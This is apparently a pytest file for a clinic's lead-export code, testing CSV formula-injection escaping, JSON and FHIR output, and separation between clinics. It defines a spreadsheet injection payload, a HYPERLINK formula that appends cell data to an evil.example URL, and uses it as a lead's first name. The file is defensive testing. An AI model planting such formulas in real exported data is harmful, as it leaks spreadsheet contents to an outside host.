"""A clinic's leads as files that no spreadsheet runs and every program reads."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fhir.resources.R4B.bundle import Bundle

from clinic.channels.export import Exports, Format, harmless
from flows.effects import HandOffLead, LeadKind, SavePhone
from storage import turns
from tests.builders import NOW, a_confirmation, a_conversation, a_decision, a_slot, a_turn
from tests.clinic.channels.world import WILLOW, World
from tests.flows.chat import catalogues

TRICK = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0001", "'+44 20 7946 0001"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\u00a0=1", "'=1"),
        ("\uff1d1", "'\uff1d1"),
        ("Ada\r\n=1", "Ada =1"),
        ("Ada", "Ada"),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_is_never_a_formula(given: object, shown: str) -> None:
    assert harmless(given) == shown


@pytest.fixture
async def exports(world: World) -> Exports:
    """Return exports of a clinic with two leads, one of whom calls themselves a formula."""
    eve = a_conversation(7, first_name=TRICK, campaign="instagram")
    booked = a_confirmation(a_slot())
    handed = HandOffLead(LeadKind.BOOKED, 80)
    effects = (a_decision(), SavePhone("+44 20 7946 0001"), booked, handed)
    await world.database.write(turns.commit, a_turn(*effects, conversation=eve))
    await world.lead(8)
    return Exports(world.database, catalogues())


async def test_a_spreadsheet_gets_one_line_a_lead(exports: Exports) -> None:
    text = await exports.everything(WILLOW, Format.CSV, NOW)

    first, second = csv.DictReader(io.StringIO(text))
    assert first["first name"] == f"'{TRICK}"
    assert (first["visits"], first["booking code"]) == ("2026-03-09 10:00", "AB12")
    assert (first["campaign"], first["phone"]) == ("instagram", "'+44 20 7946 0001")
    assert (second["lead"], second["visits"]) == ("2", "")


async def test_json_has_answers_reasons_and_visits(exports: Exports) -> None:
    first, second = json.loads(await exports.everything(WILLOW, Format.JSON, NOW))

    assert first["patient"]["first_name"] == TRICK
    assert first["visits"][0]["starts_at"] == "2026-03-09T10:00:00+00:00"
    assert second["decision"]["outcome"] == "eligible"


async def test_fhir_is_a_bundle_a_line(exports: Exports) -> None:
    text = await exports.everything(WILLOW, Format.FHIR, NOW)

    bundles = [Bundle.model_validate_json(line) for line in text.splitlines()]
    assert [bundle.type for bundle in bundles] == ["collection", "collection"]


@pytest.mark.parametrize("form", Format)
async def test_another_clinic_sees_none_of_them(exports: Exports, form: Format) -> None:
    text = await exports.everything(2, form, NOW)

    assert "Ada" not in text
    assert TRICK not in text
